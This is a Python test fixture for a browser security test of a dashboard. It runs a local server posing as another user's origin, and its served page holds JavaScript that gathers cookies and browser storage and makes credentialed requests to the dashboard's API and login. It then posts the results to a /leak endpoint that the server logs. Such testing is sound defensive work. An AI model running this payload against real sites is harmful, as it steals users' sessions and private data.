"""Another user's web server on another 127.0.0.1 port, for the browser test: it records every
request it gets (method, path, headers, body) as JSON lines, and its page tries to get at the
dashboard from the browser (its cookies, storage, API, login). Run as
``python recorder.py LOG DASHBOARD_URL``; prints its port."""

from __future__ import annotations

import json
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!doctype html><title>elsewhere</title><script>
const DASH = %s;
(async () => {
  const got = {cookie: document.cookie, session: JSON.stringify(sessionStorage),
               local: JSON.stringify(localStorage)};
  for (const path of ["api/jobs", "api/gpus", "static/app.js"]) {
    try {
      const r = await fetch(DASH + path, {credentials: "include"});
      got[path] = r.status + " " + await r.text();
    } catch (e) { got[path] = "blocked: " + e; }
  }
  try {
    const r = await fetch(DASH + "api/login", {method: "POST", credentials: "include", body: "{}"});
    got.login = r.status + " " + await r.text();
  } catch (e) { got.login = "blocked: " + e; }
  await fetch("/leak", {method: "POST", body: JSON.stringify(got)});
  document.title = "done";
})();
</script>"""


class Recorder(BaseHTTPRequestHandler):
    def _record(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(length).decode(errors="replace") if length else ""
        entry = {
            "method": self.command,
            "path": self.path,
            "headers": dict(self.headers.items()),
            "body": body,
        }
        with open(sys.argv[1], "a") as log:
            log.write(json.dumps(entry) + "\n")

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        self._record()
        page = (PAGE % json.dumps(sys.argv[2])).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def do_POST(self) -> None:  # noqa: N802
        self._record()
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


if __name__ == "__main__":
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    print(server.server_address[1], flush=True)
    server.serve_forever()
